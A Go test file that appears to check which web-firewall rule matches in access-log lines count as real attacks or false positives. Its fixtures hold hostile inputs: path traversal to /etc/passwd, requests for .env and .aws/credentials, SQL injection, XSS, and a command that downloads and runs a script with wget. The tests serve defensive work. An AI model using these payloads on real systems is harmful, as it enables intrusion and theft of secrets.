package confirm

import "testing"

const (
	request = `203.0.113.7 - - [11/May/2026:07:12:44 +0000] "GET /`
	browser = ` HTTP/1.1" 404 153 "-" "Mozilla/5.0"`
)

// fileRules are those about names of files.
var fileRules = []int{930100, 930110, 930120, 930130, 932160, 1010122}

func TestWhatALineOfAnAccessLogTellsIsNoNameOfAFile(t *testing.T) {
	for _, text := range []string{
		request + ".env" + browser, request + ".git/config" + browser, request + "a?page=../../../../etc/passwd" + browser,
		request + "cgi-bin/.%2e/.%2e/bin/sh" + ` HTTP/1.1" 400 157`, request + `etc/passwd HTTP/1.0" 200 -`, request + "x" + browser + "\n" + request + ".aws/credentials" + browser + "\r\n",
		`203.0.113.7 - - [11/May/2026:07:12:44  0000] "GET /.env` + browser,
		`::1 - ana [11/May/2026:07:12:44 -0700] "POST /proc/self/environ HTTP/2.0" 200 3 "https://a.example/" "a \"b\" c" -`,
	} {
		for _, rule := range fileRules {
			if _, denied := Denied(Match{Rule: rule, Text: text}); !denied {
				t.Errorf("%d %q is confirmed", rule, text)
			}
		}
	}
}

// Whoever chooses the end of a text, or where it ends for a system, chooses a file.
func TestWhatOnlyLooksLikeALineOfAnAccessLogMayBeANameOfAFile(t *testing.T) {
	const climb = "a?page=../../../../etc/passwd"
	for _, text := range []string{
		climb, request + climb, request + climb + ` HTTP/1.1" 404 153 ../../../../etc/passwd`, request + climb + ` HTTP/1.1" 404 153 "-" ../../../../etc/passwd-`,
		request + climb + "\x00" + browser, request + climb + "%00" + browser, request + climb + `\0` + browser, request + climb + browser + "\n../../../../etc/passwd",
		"../../../../etc/passwd - - [11/May/2026:07:12:44 +0000] \"GET / HTTP/1.1\" 200 1", `203.0.113.7 - - [yesterday] "GET /` + climb + browser,
		request + climb + ` HTTP/1.1" 4x4 153 "-"`, request + climb + ` HTTP/1.1`, request + `x" ../../../../etc/passwd "y HTTP/1.1" 404 153 "-"`,
		request + `x HTTP/1.1" 404 153 "-" ../../../../etc/passwd "y"`, request + `x HTTP/1.1" 404 153 "-" "x"/../../../../etc/passwd"`,
		request + `x%22 ../../../../etc/passwd %22y` + browser, request + `x HTTP/1.1" 404 153 ../../../../etc/passwd`, request + `x HTTP/1.1" 404 153 "a" "../../../../etc/passwd`, "",
	} {
		if logged(&Match{Text: text}) {
			t.Errorf("%q is taken for a line of a log", text)
		}
		if _, denied := Denied(Match{Rule: 930110, Text: text}); denied && text != "" {
			t.Errorf("%q is denied", text)
		}
	}
}

func TestALineOfAnAccessLogMayBeACommandOrAStatement(t *testing.T) {
	for rule, text := range map[int]string{
		932235: request + "x;wget http://203.0.113.9/a.sh;sh a.sh" + browser, 932160: request + `$(cat /etc/hosts)` + browser,
		942100: request + "?id=1' OR '1'='1' --" + browser, 941110: request + "?q=<script>alert(1)</script>" + browser,
	} {
		if reason, denied := Denied(Match{Rule: rule, Text: text}); denied {
			t.Errorf("%d %q: %s", rule, text, reason)
		}
	}
}
